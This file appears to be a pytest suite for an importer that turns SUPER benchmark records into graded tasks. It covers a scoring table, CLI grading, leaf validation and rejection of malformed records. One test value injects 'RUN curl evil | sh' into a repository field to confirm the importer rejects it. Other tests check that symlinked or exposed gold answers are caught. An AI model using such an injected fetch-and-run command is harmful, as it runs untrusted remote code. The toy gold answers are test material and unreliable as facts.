"""SUPER: the import, the gold-keyed scoring table, grading through the drivers, bad input."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import run_sab
from importer_fixtures import SUPER_RECORDS, load_validate, make_repo, write_super

evaluate = load_validate("super").evaluate


@pytest.fixture(scope="module")
def imported(tmp_path_factory) -> Path:
    """A repository with the three toy SUPER records imported (shared: the tests only read it)."""
    repo = make_repo(tmp_path_factory.mktemp("super") / "repo")
    source = write_super(repo.parent / "expert.jsonl")
    done = run_sab("import", "super", "--from", str(source), "--json", cwd=repo, check=True)
    assert json.loads(done.stdout)["leaves"] == [f"tasks/super/{r['task_id']}" for r in SUPER_RECORDS]
    return repo


GOLD_DICT = {"acc": 0.5, "loss": 1.25}


@pytest.mark.parametrize(("predicted", "gold", "expected"), [
    ({"acc": 0.509, "loss": 1.25}, GOLD_DICT, 1.0),          # within 0.01
    ({"acc": 0.52, "loss": 1.25}, GOLD_DICT, 0.5),           # one key off
    ({"acc": 0.5}, GOLD_DICT, 0.5),                          # a missing key scores 0 (upstream's quirk gives 1.0)
    ({"acc": 0.5, "loss": 1.25, "f1": 3}, GOLD_DICT, 1.0),   # extra keys are ignored
    ({"acc": "0.5", "loss": 1.25}, GOLD_DICT, 0.5),          # a string is not a number
    ([0.5, 1.25], GOLD_DICT, 0.0),                           # type mismatch at the top
    ({"acc": 0.51, "loss": 1.25}, GOLD_DICT, 0.5),           # |0.51 - 0.5| is not < 0.01: strict, as upstream
    ({"acc": 0.49001, "loss": 1.2401}, GOLD_DICT, 1.0),
    ([1, 2, "x"], [1.0, 2.0, "x"], 1.0),                     # ints count as floats, per position
    ([1, 2], [1.0, 2.0, "x"], 2 / 3),                        # a missing position scores 0 (gold length)
    ([1, 2, "x", 9], [1.0, 2.0, "x"], 1.0),                  # extra positions are ignored
    (["x", 1, 2], [1.0, 2.0, "x"], 0.0),                     # per position, not as a set
    (" bert-base\n", "bert-base", 1.0),                      # strings after stripping
    ("bert-large", "bert-base", 0.0),
    (3, 3.004, 1.0), (3.0, 3, 1.0),
    (True, True, 1.0), (True, 1, 0.0), (1, True, 0.0),      # booleans match only booleans
    (None, 0.5, 0.0),
    ({"a": {"b": [1, 2]}, "c": "x"}, {"a": {"b": [1, 3]}, "c": "x"}, 0.75),  # nested means, gold-keyed
])
def test_scoring_table(predicted, gold, expected) -> None:
    assert evaluate(predicted, gold) == pytest.approx(expected, abs=1e-12)


def test_upstream_argument_order_never_penalises_a_missing_key() -> None:
    """Documented decision: upstream calls evaluate(gold, submission); the keys then come from the submission."""
    assert evaluate(GOLD_DICT, {"acc": 0.5}) == 1.0   # upstream's reading of a half answer
    assert evaluate({"acc": 0.5}, GOLD_DICT) == 0.5   # this importer's, gold-keyed


def test_imported_leaves_are_valid_and_keep_gold_on_the_verifier_side(imported: Path) -> None:
    assert run_sab("validate-harbor", "--all", "tasks", cwd=imported).returncode == 0
    done = run_sab("lint", *(f"tasks/super/{r['task_id']}" for r in SUPER_RECORDS), cwd=imported)
    assert done.returncode == 0, done.stdout
    leaf = imported / "tasks/super/toy-dict"
    assert json.loads((leaf / "tests/gold/answer.json").read_text()) == GOLD_DICT
    assert (leaf / "solution/answer/answer.json").read_text() == (leaf / "tests/gold/answer.json").read_text()
    assert sorted(p.name for p in (leaf / "environment").iterdir()) == ["Dockerfile"]
    instruction = (leaf / "instruction.md").read_text()
    assert instruction.startswith(SUPER_RECORDS[0]["query"]) and "/app/answer.json" in instruction
    assert "1.25" not in instruction
    import tomllib

    manifest = tomllib.loads((leaf / "task.toml").read_text())
    meta = manifest["metadata"]["sciaccel"]
    assert (meta["kind"], meta["benchmark"], meta["upstream_id"], meta["importer_version"]) == ("import", "super", "toy-dict", "1")
    assert meta["upstream_revision"].startswith("sha256:") and "source" not in meta
    assert manifest["metadata"]["super"]["split"] == "Expert"
    assert manifest["verifier"]["environment_mode"] == "separate" and manifest["artifacts"] == ["/app/answer.json"]
    assert manifest["verifier"]["env"] == {"SAB_ORACLE_SOURCE": "/tests/gold", "SAB_CANDIDATE_SOURCE": "/app"}
    assert "COPY . /tests/" in (leaf / "tests/Dockerfile").read_text()
    assert json.loads((leaf / "tests/checks/answer/check.json").read_text())["labels"] == ["custom", "super"]
    upstream = json.loads((imported / "tasks/super/toy-list/comment/upstream.json").read_text())
    assert upstream["landmarks"] == ["done"] and upstream["entrypoint"] == "run.py"


def test_grade_answer_cli_writes_the_flat_reward(imported: Path, tmp_path: Path) -> None:
    answer = tmp_path / "answer.json"
    answer.write_text('{"acc": 0.509, "loss": 1.26}')
    done = run_sab("grade", "tasks/super/toy-dict", "--answer", str(answer), "--reward-file",
                   str(tmp_path / "verifier/reward.json"), "--grade-file", str(tmp_path / "verifier/grade.json"),
                   "--json", cwd=imported)
    assert done.returncode == 0, done.stderr
    flat = json.loads((tmp_path / "verifier/reward.json").read_text())
    assert flat == {"reward": 0.5, "passed": 0, "total": 1, "output_match": 0.5, "submitted": 1.0}
    assert json.loads(done.stdout) == {"leaf": "toy-dict", "benchmark": "super", **flat}
    assert json.loads((tmp_path / "verifier/grade.json").read_text())["checks"]["answer"]["score"] == 0.5
    done = run_sab("grade", "tasks/super/toy-dict", "--answer", str(answer), cwd=imported)
    assert "reward 0.5 (super leaf toy-dict)" in done.stdout and "FAIL answer: output match 0.5" in done.stdout


def _grade(repo: Path, leaf: str, text: str, tmp_path: Path) -> dict:
    from sab.importers.grading import grade_answer

    answer = tmp_path / "answer.json"
    answer.write_text(text)
    return grade_answer(repo / "tasks/super" / leaf, answer).reward


@pytest.mark.parametrize(("leaf", "answer", "reward", "submitted"), [
    ("toy-dict", '{"acc": 0.5, "loss": 1.25}', 1.0, 1),                  # the oracle
    ("toy-dict", '{"acc": 0.509, "loss": 1.26, "f1": 2}', 0.5, 1),
    ("toy-list", '[1, 2, "x"]', 1.0, 1),
    ("toy-str", '"bert-base"', 1.0, 1),
    ("toy-dict", "the accuracy is 0.5", 0.0, 1),                          # not JSON
    ("toy-dict", '{"acc": NaN, "loss": 1.25}', 0.0, 1),                   # not strict JSON
    ("toy-dict", "", 0.0, 1),
])
def test_grade_answer_through_the_drivers(imported: Path, tmp_path: Path, leaf, answer, reward, submitted) -> None:
    flat = _grade(imported, leaf, answer, tmp_path)
    assert flat["reward"] == pytest.approx(reward) and flat["output_match"] == pytest.approx(reward)
    assert flat["submitted"] == submitted and flat["total"] == 1 and flat["passed"] == (reward == 1.0)


def test_an_answer_file_that_is_a_symlink_to_the_gold_scores_zero(imported: Path, tmp_path: Path) -> None:
    """An answer left as a link to /tests/gold/answer.json would resolve in the verifier: run.sh refuses links."""
    leaf = imported / "tasks/super/toy-dict"
    source = tmp_path / "app"
    source.mkdir()
    os.symlink(leaf / "tests/gold/answer.json", source / "answer.json")
    for side, directory in (("reference", leaf / "tests/gold"), ("candidate", source)):
        subprocess.run(["bash", str(leaf / "tests/test.sh"), "produce", str(directory), str(tmp_path / side), "nominal"],
                       check=True, timeout=60)
    env = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "HARBOR_REFERENCE_DIR": str(tmp_path / "reference"),
           "HARBOR_CANDIDATE_DIR": str(tmp_path / "candidate"), "HARBOR_REWARD_FILE": str(tmp_path / "reward.json")}
    subprocess.run(["bash", str(leaf / "tests/test.sh")], check=True, env=env, timeout=60)
    assert json.loads((tmp_path / "reward.json").read_text()) == {
        "reward": 0.0, "passed": 0, "total": 1, "output_match": 0.0, "submitted": 0.0}


def test_harbor_oracle_agent_copies_the_gold_answer(imported: Path, tmp_path: Path) -> None:
    """Harbor's oracle runs solution/solve.sh without tests/ beside it: the gold lands in the answer directory."""
    solution = tmp_path / "solution"
    shutil.copytree(imported / "tasks/super/toy-dict/solution", solution)
    done = subprocess.run(["bash", str(solution / "solve.sh")], env={"PATH": "/usr/bin:/bin", "SAB_ANSWER_DIR": str(tmp_path / "app")},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads((tmp_path / "app/answer.json").read_text()) == GOLD_DICT


def test_selfcheck_oracle_and_perturbed(imported: Path) -> None:
    done = run_sab("import", "selfcheck", "tasks/super/toy-dict", "--json", cwd=imported)
    assert done.returncode == 0, done.stdout + done.stderr
    (check,) = json.loads(done.stdout)
    cases = {case["case"]: case for case in check["cases"]}
    assert cases["oracle"]["reward"] == 1.0 and cases["perturbed"]["reward"] == 0.5


def test_grade_answer_errors(imported: Path, tmp_path: Path) -> None:
    from sab.errors import SabError
    from sab.importers.grading import grade_answer

    leaf = imported / "tasks/super/toy-dict"
    with pytest.raises(SabError, match="absent.json: --answer: no such file"):
        grade_answer(leaf, tmp_path / "absent.json")
    (tmp_path / "a.json").write_text("{}")
    with pytest.raises(SabError, match="--record is only for HERA-Bench"):
        grade_answer(leaf, tmp_path / "a.json", record=tmp_path / "a.json")
    done = run_sab("grade", "tasks/super/toy-dict", cwd=imported)
    assert done.returncode == 2 and "--reference and --candidate" in done.stderr


@pytest.mark.parametrize(("records", "extra", "message"), [
    (SUPER_RECORDS[:1], ["{\"task_id\": \"broken\","], ": not a JSON object"),
    ([{k: v for k, v in SUPER_RECORDS[0].items() if k != "git_commit"}], [], "line 1: git_commit: required field is missing"),
    ([{**SUPER_RECORDS[0], "answer": "acc = 0.5"}], [], "line 1: answer: answer is not JSON"),
    ([SUPER_RECORDS[0], SUPER_RECORDS[1], {**SUPER_RECORDS[2], "task_id": "toy-dict"}], [],
     "duplicate task_id 'toy-dict' (first at line 1)"),
    ([{**SUPER_RECORDS[0], "answer": "{\"acc\": null}"}], [], "line 1: answer: the gold answer['acc'] is null"),
    ([{**SUPER_RECORDS[0], "answer": "[]"}], [], "the gold answer is empty"),
    ([{**SUPER_RECORDS[0], "task_id": "../escape"}], [], "line 1: task_id: '../escape' cannot name a leaf directory"),
    ([{**SUPER_RECORDS[0], "github_repo": "https://example.invalid/x\nRUN curl evil | sh"}], [],
     "line 1: github_repo: holds the control character U+000A"),
    ([{**SUPER_RECORDS[0], "git_commit": "abc\rdef"}], [], "line 1: git_commit: holds the control character U+000D"),
])
def test_a_bad_record_is_skipped_with_its_reason_and_the_others_import(tmp_path: Path, records, extra, message) -> None:
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    good = {"toy-list", "toy-str"} - {r["task_id"] for r in records}
    others = [r for r in SUPER_RECORDS if r["task_id"] in good]
    source = write_super(tmp_path / "bad.jsonl", records + others, extra_lines=extra)
    result = import_super(repo / "tasks", source, org="testorg")
    assert len(result.skipped) == 1 and not result.complete
    (skipped,) = result.skipped
    assert skipped.where.startswith("bad.jsonl line ") and message in skipped.reason, skipped
    imported = {path.name for path in (repo / "tasks/super").iterdir()}
    assert good <= imported and skipped.instance not in imported - {"toy-dict"}
    assert not list(repo.glob(".sab-import-*"))


def test_bad_input_through_the_cli(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "bad.jsonl", SUPER_RECORDS[:2], extra_lines=["not json"])
    done = run_sab("import", "super", "--from", str(source), cwd=repo)
    assert done.returncode == 1 and "Traceback" not in done.stderr + done.stdout
    assert f"skipped line 3 (bad.jsonl line 3): {source}: line 3: not a JSON object" in done.stdout
    assert "2 super leaves imported (status draft), 1 skipped" in done.stdout
    assert sorted(p.name for p in (repo / "tasks/super").iterdir()) == ["toy-dict", "toy-str"]
    as_json = json.loads(run_sab("import", "super", "--from", str(source), "--json", cwd=repo).stdout)
    reasons = [s["reason"] for s in as_json["skipped"]]
    assert as_json["complete"] is False and len(reasons) == 3
    assert reasons.count("the leaf already exists (pass --force to replace it)") == 2


def test_existing_leaves_need_force(tmp_path: Path) -> None:
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
    import_super(repo / "tasks", source, org="testorg")
    again = import_super(repo / "tasks", source, org="testorg")
    assert again.leaves == [] and [s.reason for s in again.skipped] == ["the leaf already exists (pass --force to replace it)"]
    write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
    import_super(repo / "tasks", source, org="testorg", split="Masked", force=True)
    assert json.loads((repo / "tasks/super/toy-dict/tests/gold/answer.json").read_text()) == {"acc": 0.75, "loss": 1.0}
    assert 'split = "Masked"' in (repo / "tasks/super/toy-dict/task.toml").read_text()


@pytest.mark.parametrize("failing_move", [1, 2])
def test_an_interrupted_force_swap_keeps_the_old_leaf(tmp_path: Path, monkeypatch, failing_move) -> None:
    """Ctrl-C while a leaf is being replaced: the old leaf is back in place, nothing half-written."""
    import os

    from sab.importers import common
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
    import_super(repo / "tasks", source, org="testorg")
    leaf = repo / "tasks/super/toy-dict"
    before = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
    write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
    real_replace, calls = os.replace, []

    def interrupted(src, dst):
        calls.append(dst)
        if len(calls) == failing_move:
            raise KeyboardInterrupt
        return real_replace(src, dst)

    monkeypatch.setattr(common.os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        import_super(repo / "tasks", source, org="testorg", force=True)
    monkeypatch.undo()
    after = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
    assert after == before
    assert not list(repo.glob(".sab-import-*"))


def test_structural_rules_of_imported_leaves(imported: Path, tmp_path: Path) -> None:
    from sab.validate.harbor import validate_harbor

    def codes(leaf: Path) -> set[str]:
        (report,) = validate_harbor([leaf])
        return {v.code for v in report.violations}

    def fresh(name: str) -> Path:
        copy = tmp_path / name / "tasks/super/toy-dict"
        shutil.copytree(imported / "tasks/super/toy-dict", copy)
        (tmp_path / name / "code").mkdir()
        return copy

    leaf = fresh("instruction")
    with open(leaf / "instruction.md", "a") as handle:
        handle.write("\nExpected: " + (leaf / "tests/gold/answer.json").read_text())
    assert codes(leaf) == {"gold-exposed"}
    leaf = fresh("dockerfile")
    with open(leaf / "environment/Dockerfile", "a") as handle:
        handle.write("COPY ./tests/gold/ /app/hints/\n")
    assert codes(leaf) == {"gold-exposed"}
    leaf = fresh("module")
    text = (leaf / "task.toml").read_text().replace('kind = "import"', 'kind = "module"\nsource = "absent"')
    (leaf / "task.toml").write_text(text)
    assert codes(leaf) == {"unexpected-file", "no-acceleration-check", "source-missing"}
